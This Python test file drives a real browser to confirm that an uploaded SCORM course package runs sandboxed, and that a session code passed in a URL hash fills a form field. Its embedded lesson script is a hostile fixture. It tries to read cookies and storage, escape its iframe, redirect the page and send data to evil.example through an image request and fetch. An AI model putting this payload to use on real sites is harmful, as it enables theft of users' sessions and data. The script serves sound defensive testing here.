"""A package in a real browser: it attacks in vain, goes on where it was, and is kept.

Also the square on the wall: the code behind the hash fills the field of a phone.
"""

import json
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from courses_office import assigned, loaded, small, standing
from house import House
from listening import heard
from office import CHEN, SUN
from programme_office import asks
from scorm_packages import FILES, packed

from browsers import Do, running_chromium
from jieqing.casebook.desk import day_of
from jieqing.programme import sealed
from jieqing.programme.acts.load_pack import APPLY
from jieqing.programme.courses.acts import meet
from jieqing.programme.courses.acts.unpack import take_in_package
from jieqing.programme.courses.enrolments import rows_of
from jieqing.programme.courses.models import Commit
from jieqing.programme.courses.packages import read_package

pytestmark = pytest.mark.long
Stage = Callable[[str | None], House]
COURSES, LITTLE = "/qinghe/programme/courses/", "course.small"
LESSON = """
const tried = {};
const attempt = (name, act) => {
  try { tried[name] = String(act()); } catch { tried[name] = "barred"; }
};
attempt("cookie", () => document.cookie);
attempt("storage", () => localStorage.length);
attempt("page", () => parent.document.title);
attempt("name", () => open("https://evil.example/"));
attempt("origin", () => window.origin);
attempt("top", () => { top.location = "https://evil.example/"; });
attempt("eval", () => eval("1 + 1"));
const picture = new Image();
picture.src = "https://evil.example/?" + window.name;
addEventListener("DOMContentLoaded", async () => {
  for (const place of ["/qinghe/today/", "https://evil.example/"])
    tried[place] = await fetch(place).then(() => "got", () => "barred");
  window.API.LMSInitialize("");
  const before = window.API.LMSGetValue("cmi.core.lesson_location");
  document.body.append(`begun at ${before || "the beginning"}`);
  window.API.LMSSetValue("cmi.core.lesson_location", before + "I");
  window.API.LMSSetValue("cmi.core.session_time", "0000:01:00");
  window.API.LMSSetValue("cmi.comments", JSON.stringify(tried));
  window.API.LMSSetValue("cmi.core.student_name", "somebody else");
  window.API.LMSCommit("");
});
document.addEventListener("click", () => {
  window.API.LMSSetValue("cmi.core.lesson_status", "completed");
  window.API.LMSFinish("");
});
"""


@pytest.fixture(scope="module")
def browser() -> Iterator[Do]:
    with running_chromium() as do:
        yield do


def opened(house: House, do: Do, origin: str, address: str) -> Any:  # noqa: ANN401  # Playwright's page, of its thread
    """孙执行 opens a page."""
    session = house.browser(SUN).cookies["sessionid"].value
    cookie = {"name": "sessionid", "value": session, "url": origin}

    def open_(chromium: Any) -> Any:  # noqa: ANN401  # the same
        context = chromium.new_context(base_url=origin)
        context.add_cookies([cookie])
        page = context.new_page()
        page.set_default_timeout(15000)
        page.goto(address)
        return page

    return do(open_)


def told_by(house: House, number: int) -> dict[str, str]:
    """What a commit of the lesson holds."""
    row = Commit.objects.get(number=number)
    found = json.loads(sealed.read(house.office.desk.home, row.content, "it"))["data"]
    return dict(found)


def test_a_package_attacks_in_vain_and_what_it_says_outlives_a_lost_connection(
    house: Stage, browser: Do
) -> None:
    there = house(None)
    loaded(there.office, small())
    assigned(there.office, LITTLE)
    package = read_package(packed({**FILES, "lesson.js": LESSON}))
    asked = asks(there.office, "", APPLY, CHEN)
    key = take_in_package(there.office.desk, asked, LITTLE, package, "钓鱼邮件")
    rows = rows_of(there.office.desk, courses=[LITTLE], person=SUN)
    address = f"{COURSES}{rows[0].record.no}/packages/{key}"
    with heard() as origin:
        page = opened(there, browser, origin, address)

        def first(_: object) -> None:
            page.wait_for_selector("#kept:not([hidden])")
            page.reload()
            lesson = page.frame_locator(".package iframe").locator("body")
            lesson.get_by_text("begun at I").wait_for()
            page.wait_for_selector("#kept:not([hidden])")

        def cut_off(_: object) -> None:
            page.context.set_offline(True)
            page.frame_locator(".package iframe").locator("body").click()
            page.wait_for_selector("#lost:not([hidden])")
            assert not page.is_visible("#done")
            page.context.set_offline(False)
            page.wait_for_selector("#done:not([hidden])")

        browser(first)
        browser(cut_off)
        where = browser(lambda _: page.url)
    tried = json.loads(told_by(there, 1)["cmi.comments"])

    assert where == f"{origin}{address}"
    assert tried["origin"] == "null"
    assert tried["name"] == "null"
    assert {name for name, found in tried.items() if found == "barred"} == {
        "cookie",
        "storage",
        "page",
        "top",
        "eval",
        "/qinghe/today/",
        "https://evil.example/",
    }
    assert told_by(there, 1)["cmi.core.student_name"] == "learner"
    assert told_by(there, 3)["cmi.core.lesson_status"] == "completed"
    assert Commit.objects.filter(attempt=1).count() == 3


def test_a_phone_finds_the_code_in_its_field_and_not_in_its_address(
    house: Stage, browser: Do
) -> None:
    there = house(None)
    loaded(there.office, small())
    assigned(there.office, LITTLE)
    desk, at = there.office.desk, there.office.at
    held = (day_of(at), "三楼会议室")
    no = meet.open_session(desk, LITTLE, held, by=CHEN, at=at)
    code = meet.code_of(desk, no, at)
    page_of_room = f"{COURSES}sessions/{no}/"
    with heard() as origin:
        page = opened(there, browser, origin, f"{page_of_room}#code={code}")
        filled = browser(lambda _: page.input_value("#code"))
        where = browser(lambda _: page.url)

        def signs(_: object) -> None:
            with page.expect_navigation():
                page.click("form.stack .primary")

        browser(signs)

    assert filled == code
    assert where == f"{origin}{page_of_room}"
    assert standing(there.office, SUN, LITTLE).lessons == {"one"}
